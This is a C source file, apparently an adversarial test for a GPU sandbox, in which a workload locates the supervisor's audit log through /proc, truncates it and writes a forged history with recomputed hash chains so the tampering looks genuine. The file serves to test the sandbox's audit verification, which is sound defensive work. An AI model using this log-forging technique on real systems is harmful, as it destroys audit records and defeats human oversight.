/* SPDX-License-Identifier: MIT */
/*
 * audit_forge - the workload rewrites its own audit log (issue #17 item 6).
 *
 * Running as the supervisor's user, it looks for the log where main's
 * workload found it: the path after --audit-log in the supervisor's command
 * line (/proc/PPID/cmdline), and the supervisor's open files
 * (/proc/PPID/fd, which a non-dumpable supervisor does not show). Having
 * made one allocation (so the log holds records), it reads the log, learns
 * the sandbox id and the last record number, truncates the file and writes
 * a forged history in its place: its own start record first (command
 * "benign"), then harmless decisions numbered so that the supervisor's
 * next record follows on, each with a hash chain computed exactly as the
 * supervisor computes it. Then it allocates again, so the supervisor
 * writes after the forgery.
 *
 * With an argument, that path is the workload's guess, tried when the
 * command line gives nothing away (the init blanks it since the PID
 * namespace came: the forgery is then tried on a guessed path, as a workload
 * that knows where logs go would).
 *
 * Prints found= (the path, or none), found_by= (cmdline, guess or none),
 * fd_scan= (what /proc/PPID/fd
 * answered), forged= (records written), alloc1= alloc2= and SUMMARY.
 * Judged by run.sh with `gpusandbox audit verify`, not by its own word.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "adv.h"
#include "sha256.h"

#define CHUNK (256ull * RMC_MIB)
#define PATH_MAX_LEN 4096
#define CMDLINE_MAX 65536
#define LOG_MAX (1 << 20)
#define RECORD_MAX 1024
#define SANDBOX_MAX 64

/* The path after --audit-log (or --audit-log=) in the parent's command
 * line, or an empty string. */
static void path_from_cmdline(pid_t ppid, char *out, size_t len)
{
	static char buf[CMDLINE_MAX];
	char path[64];
	ssize_t n;
	int fd;

	out[0] = '\0';
	snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)ppid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return;
	buf[n] = '\0';
	for (char *a = buf; a < buf + n; a += strlen(a) + 1) {
		if (strncmp(a, "--audit-log=", 12) == 0) {
			snprintf(out, len, "%s", a + 12);
			return;
		}
		if (strcmp(a, "--audit-log") == 0 && a + strlen(a) + 1 < buf + n) {
			snprintf(out, len, "%s", a + strlen(a) + 1);
			return;
		}
	}
}

/* What the parent's open files give away: "EACCES" when the directory
 * cannot be listed, else how many of its links could be read ("links:N";
 * a non-dumpable supervisor's cannot). */
static const char *scan_parent_fds(pid_t ppid)
{
	static char result[32];
	char path[64], link[PATH_MAX_LEN];
	struct dirent *de;
	unsigned readable = 0;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", (int)ppid);
	d = opendir(path);
	if (!d)
		return strerrorname_np(errno) ? strerrorname_np(errno) : "error";
	while ((de = readdir(d)))
		if (de->d_name[0] != '.' &&
		    readlinkat(dirfd(d), de->d_name, link, sizeof(link)) >= 0)
			readable++;
	closedir(d);
	snprintf(result, sizeof(result), "links:%u", readable);
	return result;
}

/* Appends one record: body is the JSON object without its closing brace;
 * "prev" and "hash" follow as the supervisor writes them. */
static void forge_record(int fd, char prev[GS_SHA256_HEX], const char *body)
{
	char text[RECORD_MAX], hash[GS_SHA256_HEX], line[RECORD_MAX + 2 * GS_SHA256_HEX];
	int n;

	snprintf(text, sizeof(text), "%s,\"prev\":\"%s\"}", body, prev);
	gs_sha256_hex(text, strlen(text), hash);
	text[strlen(text) - 1] = '\0';
	n = snprintf(line, sizeof(line), "%s,\"hash\":\"%s\"}\n", text, hash);
	if (write(fd, line, (size_t)n) != n)
		perror("audit_forge: write");
	memcpy(prev, hash, GS_SHA256_HEX);
}

/* Reads the log for the sandbox id and the last record number. */
static int read_log(const char *path, char *sandbox, long *last_seq)
{
	static char buf[LOG_MAX];
	const char *p, *q;
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return -1;
	buf[n] = '\0';
	p = strstr(buf, "\"sandbox\":\"");
	if (!p)
		return -1;
	p += strlen("\"sandbox\":\"");
	q = strchr(p, '"');
	if (!q || q - p >= SANDBOX_MAX)
		return -1;
	memcpy(sandbox, p, (size_t)(q - p));
	sandbox[q - p] = '\0';
	*last_seq = -1;
	for (p = buf; (p = strstr(p, "\"seq\":")); p++)
		*last_seq = strtol(p + strlen("\"seq\":"), NULL, 10);
	return *last_seq >= 0 ? 0 : -1;
}

static int forge(const char *path)
{
	char sandbox[SANDBOX_MAX], prev[GS_SHA256_HEX], body[RECORD_MAX];
	long last;
	int fd;

	if (read_log(path, sandbox, &last) < 0)
		return 0;
	fd = open(path, O_WRONLY | O_TRUNC | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return 0;
	memset(prev, '0', GS_SHA256_HEX - 1);
	prev[GS_SHA256_HEX - 1] = '\0';
	snprintf(body, sizeof(body),
	         "{\"time\":\"2026-01-01T00:00:00.000000Z\",\"sandbox\":\"%s\",\"seq\":0,\"event\":\"start\","
	         "\"schema\":1,\"version\":\"0.1.0\",\"pid\":1,\"command\":[\"benign\"],\"quota\":1073741824,"
	         "\"managed\":\"allow-unaccounted\"", sandbox);
	forge_record(fd, prev, body);
	for (long seq = 1; seq <= last; seq++) {
		snprintf(body, sizeof(body),
		         "{\"time\":\"2026-01-01T00:00:00.000000Z\",\"sandbox\":\"%s\",\"seq\":%ld,"
		         "\"event\":\"decision\",\"pid\":1,\"tid\":1,\"comm\":\"benign\",\"device\":null,"
		         "\"call\":\"RM_CONTROL\",\"verdict\":\"allow\"", sandbox, seq);
		forge_record(fd, prev, body);
	}
	close(fd);
	return (int)last + 1;
}

int main(int argc, char **argv)
{
	struct rmc_session s;
	struct adv_tally t = { 0 };
	char path[PATH_MAX_LEN];
	rmc_status_t a1, a2;
	pid_t ppid = getppid();
	int forged = 0;

	adv_session_or_die(&s, -1, "audit_forge");
	a1 = adv_alloc_rm(&s, NULL, rmc_next_handle(&s), CHUNK);
	adv_count(&t, a1);
	const char *found_by = "none";
	path_from_cmdline(ppid, path, sizeof(path));
	if (path[0])
		found_by = "cmdline";
	else if (argc > 1 && access(argv[1], F_OK) == 0) {
		snprintf(path, sizeof(path), "%s", argv[1]);
		found_by = "guess";
	}
	if (path[0])
		forged = forge(path);
	a2 = adv_alloc_rm(&s, NULL, rmc_next_handle(&s), CHUNK);
	adv_count(&t, a2);
	printf("found=%s found_by=%s fd_scan=%s forged=%d alloc1=0x%x alloc2=0x%x\n",
	       path[0] ? path : "none", found_by, scan_parent_fds(ppid), forged, a1, a2);
	adv_print_summary(&t);
	return 0;
}
